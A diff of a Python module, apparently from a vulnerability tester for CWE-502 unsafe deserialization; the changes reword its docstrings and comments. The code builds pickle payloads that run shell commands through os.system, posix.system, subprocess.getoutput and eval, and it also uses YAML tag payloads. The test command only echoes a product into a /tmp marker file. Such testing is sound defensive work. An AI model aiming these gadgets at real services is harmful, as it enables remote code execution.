@@ -1,7 +1,7 @@
-"""CWE-502 in Python: does loading data from outside run code that the data chooses?
+"""Decides CWE-502 in Python: does loading data from outside run code that the data chooses?
 
-Exploited: an object in a pickle, or a tag in YAML, had a shell compute a product of two random numbers that the data
-only asks for. Exercised: a benign document was loaded, with its random content, and the call went on without an error.
+Exploited: an object in a pickle, or a tag in YAML, made a shell compute a product of two random numbers, for which the
+data only asks. Exercised: a benign document with random content was loaded, and the call went on without an error.
 """
 # ruff: noqa: E501 - tables
 
@@ -29,7 +29,7 @@ HINT = ""
 
 
 def want(surface: Surface, tokens: Tokens) -> Wanted:
-    """Documents as values (plain and in base64) and as files of the names the source mentions."""
+    """Want documents as values (plain and in base64) and as files of the names that the source mentions."""
     plain = json.dumps({"name": tokens.inside})
     pickled = base64.b64encode(_pickle_text(tokens.inside)).decode()
     command = f"echo $(({tokens.a}*{tokens.b}))>/tmp/{tokens.mark}.{{N}}"
@@ -39,13 +39,13 @@ def want(surface: Surface, tokens: Tokens) -> Wanted:
     # an encoded value cannot hold the attempt's number
     fixed = command.replace("{N}", "encoded")
     attacks.append({"value": base64.b64encode(_pickle_call(fixed)).decode(), "encoded": "encoded"})
-    for gadget in _gadgets(command):  # for lists of what is forbidden
+    for gadget in _gadgets(command):  # against code that lists what is forbidden
         attacks.append({"value": gadget.decode()})
     for number, gadget in enumerate(_gadgets(command.replace("{N}", "g"))):
         attacks.append({"value": base64.b64encode(gadget).decode(), "encoded": "g"} if number else {"value": tag})
     attacks += [{"value": text.replace("{C}", command)} for text in _TAGS]
     keys = list(dict.fromkeys(text for text in surface.literals if re.fullmatch(r"[A-Za-z_]\w{0,30}", text)))[:14]
-    own = [text for text in keys if len(text) < 3]  # a code that must be one of a few
+    own = [text for text in keys if len(text) < 3]  # a short key, which may be a code that must be one of a few
     filled = [
         json.dumps({key: value for key in keys} | {"name": tokens.inside}) for value in (tokens.inside, 7, *own[:2])
     ]
@@ -73,12 +73,12 @@ def want(surface: Surface, tokens: Tokens) -> Wanted:
 
 
 def _pickle_text(text: str) -> bytes:
-    """A dictionary with one text, as a pickle of protocol 0."""
+    """Return a dictionary with one text as a pickle of protocol 0."""
     return f"(dVname\nV{text}\ns.".encode()
 
 
 def _pickle_call(command: str) -> bytes:
-    """A pickle of protocol 0 that calls `os.system`: ASCII, so that it also passes through text."""
+    """Return a pickle of protocol 0 that calls `os.system`. It is ASCII, so that it also passes through text."""
     return f"cos\nsystem\n(V{command}\ntR.".encode()
 
 
@@ -90,7 +90,7 @@ _TAGS = (
 
 
 def _gadgets(command: str) -> list[bytes]:
-    """Pickles of protocol 0 that run a command through other functions than `os.system`."""
+    """Return pickles of protocol 0 that run a command through other functions than `os.system`."""
     code = f"__import__('os').system({command!r})"
     calls = [
         f"cposix\nsystem\n(V{command}\ntR.", f"csubprocess\ngetoutput\n(V{command}\ntR.", f"cbuiltins\neval\n(V{code}\ntR.",
